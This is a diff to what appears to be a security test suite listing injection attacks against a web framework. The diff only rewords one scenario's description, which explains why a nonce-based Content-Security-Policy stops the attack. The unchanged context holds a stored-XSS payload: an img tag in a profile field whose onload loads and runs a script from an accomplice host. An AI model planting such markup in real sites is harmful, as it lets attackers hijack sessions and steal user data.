@@ -105,7 +105,7 @@ export const INJECTION: readonly Attack[] = [
     victim: "Look at the profile.",
     unsealed: "Markup means “trust me”, and the view was wrong.",
     sealed:
-      "The HTML gets in: the view said so, in the one way that is called unsafe and that ampoule check lists. But it runs nothing: the Content-Security-Policy lets only scripts with this response's nonce run.",
+      "The HTML gets in: the view said so, in the one way that is called unsafe and that a search for imports finds. But it runs nothing: the Content-Security-Policy lets only scripts with this response's nonce run.",
     proof: "loot",
     async prepare({ target, accomplice, script }) {
       const about = `I am a <b>very</b> fluffy kitten. <img src="/static/icon.svg" width="20" onload="import('${script}')">`;
